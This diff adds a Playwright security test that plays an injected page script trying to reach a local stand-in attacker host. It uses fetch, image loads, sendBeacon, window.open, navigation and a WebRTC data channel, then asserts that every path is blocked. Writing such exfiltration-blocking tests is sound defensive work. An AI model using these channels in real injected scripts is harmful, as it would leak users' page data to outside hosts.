@@ -1,0 +1,66 @@
+import { createServer } from 'node:http'
+import type { AddressInfo } from 'node:net'
+import { expect, test } from '@playwright/test'
+import { openApp, type OpenApp } from '../support/browser/open-app'
+
+/**
+ * Attacker: a script that got into the page, in the browser.
+ * Wants: to carry what the page knows to a host of its own: by a request, by navigating there, over WebRTC.
+ */
+
+let app: OpenApp
+const heard: string[] = []
+const host = createServer((request, response) => {
+  heard.push(request.url ?? '')
+  response.setHeader('access-control-allow-origin', '*').end('heard')
+})
+let address: string
+
+test.beforeAll(async ({ browser }, testInfo) => {
+  await new Promise<void>((done) => host.listen(0, '127.0.0.1', done))
+  address = `http://127.0.0.1:${(host.address() as AddressInfo).port}`
+  app = await openApp(browser, { dataFolder: testInfo.outputPath('data') })
+  await expect(app.hands.at('start-practice')).toBeVisible()
+})
+test.afterAll(async () => {
+  await app.close()
+  host.closeAllConnections()
+  host.close()
+})
+
+test('it finds no way over WebRTC, in a browser that can close it', async () => {
+  const { page } = app.hands
+  /** What becomes of a connection between two ends, of which each needs a way out of the page. */
+  const state = await page.evaluate(async () => {
+    const one = new RTCPeerConnection()
+    const other = new RTCPeerConnection()
+    one.onicecandidate = ({ candidate }) => void other.addIceCandidate(candidate ?? undefined)
+    other.onicecandidate = ({ candidate }) => void one.addIceCandidate(candidate ?? undefined)
+    one.createDataChannel('out')
+    const settled = new Promise<string>((done) => {
+      one.oniceconnectionstatechange = () =>
+        ['connected', 'completed', 'failed'].includes(one.iceConnectionState) && done(one.iceConnectionState)
+      setTimeout(() => done('nothing'), 10_000)
+    })
+    await one.setLocalDescription()
+    await other.setRemoteDescription(one.localDescription as RTCSessionDescription)
+    await other.setLocalDescription()
+    await one.setRemoteDescription(other.localDescription as RTCSessionDescription)
+    return settled
+  })
+  expect(['failed', 'nothing']).toContain(state)
+})
+
+test('no request and no navigation reaches its host', async () => {
+  const { page } = app.hands
+  await page.evaluate((to) => fetch(`${to}/asked`).catch(() => undefined), address)
+  await page.evaluate((to) => {
+    new Image().src = `${to}/image`
+    navigator.sendBeacon(`${to}/beacon`, 'text')
+    open(`${to}/window`)
+  }, address)
+  await page.evaluate((to) => (location.href = `${to}/navigated`), address).catch(() => undefined)
+  // Whatever was on its way has had its time.
+  await new Promise((done) => setTimeout(done, 1500))
+  expect(heard).toEqual([])
+})
